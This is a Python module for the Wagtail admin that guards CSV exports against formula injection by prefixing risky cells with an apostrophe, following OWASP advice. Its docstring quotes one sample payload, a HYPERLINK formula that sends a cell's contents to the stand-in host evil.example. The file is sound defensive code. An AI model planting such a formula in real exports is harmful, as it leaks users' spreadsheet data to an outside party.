"""Spreadsheet exports from the admin that a spreadsheet program opens safely.

Wagtail's exports write each cell as given. A registration named
``=HYPERLINK("http://evil.example/?x="&C2,"Click")`` came out of the CSV
unchanged, and a spreadsheet program would run it as a formula. As OWASP
advises for CSV injection, a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is written with a leading apostrophe, so
it is shown as text. The XLSX export already stores such cells as text
(Wagtail turns openpyxl's formula cells back into strings).
"""

from wagtail.admin.views.generic import IndexView

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_text(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeExportMixin:
    """For any view with Wagtail's ``SpreadsheetExportMixin``."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return as_text(value) if export_format == self.FORMAT_CSV else value


class SafeExportIndexView(FormulaSafeExportMixin, IndexView):
    """The index view of a ``ModelViewSet`` whose list can be exported."""
